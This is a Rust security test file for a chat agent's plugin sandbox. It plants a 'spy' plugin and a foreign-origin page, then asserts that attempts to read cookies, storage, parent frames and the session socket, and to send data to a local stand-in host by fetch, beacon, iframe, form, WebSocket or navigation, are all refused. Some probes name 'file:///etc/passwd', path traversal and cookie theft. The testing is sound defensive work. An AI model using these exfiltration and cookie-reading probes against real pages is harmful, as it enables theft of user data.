//! A hostile plugin, and a hostile page: what they try, and what they get.

use std::path::Path;
use std::time::Duration;

use ringfort_agent::Options;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use super::common::client::{Socket, enter, socket_url};
use super::common::{World, together};
use ringfort_browser::{Browser, DEADLINE};

const MANIFEST: &str = "interface = 1\nid = \"spy\"\nname = \"Spy\"\norder = 1\n";
const PAGE: &str = "<!doctype html><script src=\"spy.js\" type=\"module\"></script><p>spy</p>";
const SCRIPT: &str = "import { connect } from './ringfort.js';
const rf = await connect(); globalThis.rf = rf; globalThis.heard = [];
rf.on('message', (m) => heard.push(m.text)); rf.start(); globalThis.ready = true;";

fn plant(folder: &Path) {
    std::fs::create_dir(folder.join("spy")).unwrap();
    for (name, text) in [("plugin.toml", MANIFEST), ("index.html", PAGE), ("spy.js", SCRIPT)] {
        std::fs::write(folder.join("spy").join(name), text).unwrap();
    }
}

/// The requests that reach this listener within a moment. A browser may open a bare connection ahead of asking the
/// policy, which `docs/agent.md` tells; no byte of a request may come over it.
async fn requests(listener: &TcpListener) -> Vec<String> {
    let moment = Duration::from_millis(700);
    let mut requests = Vec::new();
    while let Ok(accepted) = tokio::time::timeout(moment, listener.accept()).await {
        let mut bytes = vec![0; 4096];
        let read = tokio::time::timeout(moment, accepted.unwrap().0.read(&mut bytes)).await;
        let size = read.map_or(0, Result::unwrap_or_default);
        requests.push(String::from_utf8_lossy(&bytes[..size]).into_owned());
    }
    requests.retain(|request| !request.is_empty());
    requests
}

#[tokio::test(flavor = "multi_thread")]
async fn a_plugin_cannot_reach_the_token_another_plugin_or_the_network() {
    let Some(browser) = Browser::start().await else { return };
    let dir = tempfile::tempdir().unwrap();
    plant(dir.path());
    let world = World::start(&["ana", "ben"]).await;
    let options = Options { plugins: Some(dir.path().to_owned()), ..Options::default() };
    let (ana, ben) = (world.agent_with("ana", options).await, world.agent("ben").await);
    together(&[&ana, &ben], &["ana", "ben"]).await;
    assert_eq!(ana.skipped_plugins(), []);
    let page = browser.open(&ana.url()).await;
    browser.until(&page, Some("spy"), "globalThis.ready === true").await;
    // What it may: its own topic, the members, its own values.
    let may =
        "(async () => { await rf.set('k', [1]); return [await rf.get('k'), rf.members, await rf.send('hi') > 0] })()";
    assert_eq!(browser.in_plugin(&page, "spy", may).await, json!([[1], ["ana", "ben"], true]));

    let (mut socket, _) = Socket::page(&ben, "", 0).await;
    socket.send("chat", "a secret of the chat").await;
    browser.until(&page, Some("chat"), "document.body.innerText.includes('a secret of the chat')").await;
    assert_eq!(browser.in_plugin(&page, "spy", "heard.includes('a secret of the chat')").await, false);

    let outside = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let away = format!("http://{}/", outside.local_addr().unwrap());
    // A page that nobody confines does reach such a listener, so that silence means something.
    let (probe, free) = (TcpListener::bind("127.0.0.1:0").await.unwrap(), browser.open("about:blank").await);
    let there = format!("http://{}/free", probe.local_addr().unwrap());
    browser.evaluate(&free, &format!("void setTimeout(() => (location.href = '{there}'), 10)")).await;
    let reached = async { while !requests(&probe).await.iter().any(|request| request.starts_with("GET /free ")) {} };
    tokio::time::timeout(DEADLINE, reached).await.expect("a page that may reaches it");
    let pass = enter(&ana).await;
    let (inside, socket_at) = (format!("{}{}", pass.origin, pass.path), socket_url(&ana, &pass));
    let attempt = |script: &str| {
        format!(
            "(async () => {{ try {{ return await (async () => {script})() ?? 'nothing' }} catch (e) {{ return 'refused' }} }})()"
        )
    };
    // Even with the secret path, which it cannot know.
    let tries = [
        "document.cookie".to_owned(),
        "parent.document.title".to_owned(),
        "parent.location.href".to_owned(),
        "parent.frames[1].document.title".to_owned(),
        "localStorage.length".to_owned(),
        "(await caches.keys()).length".to_owned(),
        "(await new Promise((y, n) => { const r = indexedDB.open('x'); r.onsuccess = () => y('opened'); r.onerror = n; }))"
            .to_owned(),
        format!("(await fetch('{inside}')).status"),
        format!("(await fetch('{inside}', {{ credentials: 'include', mode: 'no-cors' }})).type"),
        format!("(await fetch('{away}', {{ mode: 'no-cors' }})).type"),
        format!("(await import('{away}x.js'))"),
        format!(
            "(await new Promise((y, n) => {{ const s = new WebSocket('{socket_at}'); s.onopen = () => y('opened'); s.onerror = n; }}))"
        ),
        format!("(top.location = '{away}', await new Promise((y) => setTimeout(y, 300)))"),
        "(await rf.send('x', { part: '../chat' }))".to_owned(),
        "(await rf.send('x', { part: 'a/b~c' }))".to_owned(),
    ];
    for script in tries {
        let got = browser.in_plugin(&page, "spy", &attempt(&script)).await;
        let harmless = got == "refused" || (script.starts_with("(top") && got == "nothing");
        assert!(harmless, "{script} gave {got}");
    }
    assert_eq!(requests(&outside).await, Vec::<String>::new());
    for quiet in [
        format!("{{ new Image().src = '{away}' }}"),
        format!("navigator.sendBeacon('{away}', 'x')"),
        format!("{{ const f = document.createElement('iframe'); f.src = '{away}'; document.body.append(f) }}"),
        format!(
            "{{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{away}'; document.head.append(l) }}"
        ),
        format!("{{ window.open('{away}') }}"),
        "rf.open('javascript:alert(1)'); rf.open('file:///etc/passwd')".to_owned(),
        format!(
            "{{ const f = document.createElement('form'); f.action = '{away}'; document.body.append(f); f.submit() }}"
        ),
    ] {
        browser.in_plugin(&page, "spy", &quiet).await;
        assert_eq!(requests(&outside).await, Vec::<String>::new(), "{quiet}");
    }
    assert_eq!(browser.evaluate(&page, "document.getElementById('open-dialog').open").await, false);
    // It cannot put another page in its place either.
    browser.in_plugin(&page, "spy", &format!("{{ location.href = '{away}' }}")).await;
    assert_eq!(requests(&outside).await, Vec::<String>::new());
    // The page itself is as it was.
    browser.until(&page, Some("chat"), "document.body.innerText.includes('a secret of the chat')").await;
    assert_eq!(browser.evaluate(&page, "location.origin").await, Value::from(pass.origin));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_foreign_page_does_not_get_the_socket() {
    let Some(browser) = Browser::start().await else { return };
    let world = World::start(&["ana"]).await;
    let agent = world.agent("ana").await;
    let page = browser.open(&agent.url()).await;
    browser.until(&page, None, "document.querySelectorAll('#members li').length === 1").await;
    let pass = enter(&agent).await;
    let url = socket_url(&agent, &pass);
    let open = format!(
        "new Promise((y) => {{ const s = new WebSocket('{url}'); s.onopen = () => y('opened'); s.onerror = () => y('refused'); }})"
    );
    assert_eq!(browser.evaluate(&page, &open).await, "opened", "the own page may");
    // In the same browser, which has the cookie, from another origin on the same host.
    let foreign = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = foreign.local_addr().unwrap();
    let (told, mut asked) = tokio::sync::mpsc::unbounded_channel();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = foreign.accept().await {
            let mut request = vec![0; 4096];
            let size = stream.read(&mut request).await.unwrap_or(0);
            let _ = told.send(String::from_utf8_lossy(&request[..size]).into_owned());
            let answer = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 7\r\n\r\n<p>here";
            let _ = stream.write_all(answer.as_bytes()).await;
        }
    });
    browser.go(&page, &format!("http://{address}/")).await;
    browser.until(&page, None, &format!("location.port === '{}'", address.port())).await;
    assert_eq!(browser.evaluate(&page, &open).await, "refused");
    let read = format!(
        "fetch('{}{}', {{ credentials: 'include' }}).then(() => 'read', () => 'refused')",
        pass.origin, pass.path
    );
    assert_eq!(browser.evaluate(&page, &read).await, "refused");
    // The browser has not handed the cookie to the other port.
    while let Ok(request) = asked.try_recv() {
        assert!(!request.contains("ringfort="), "{request}");
    }
}
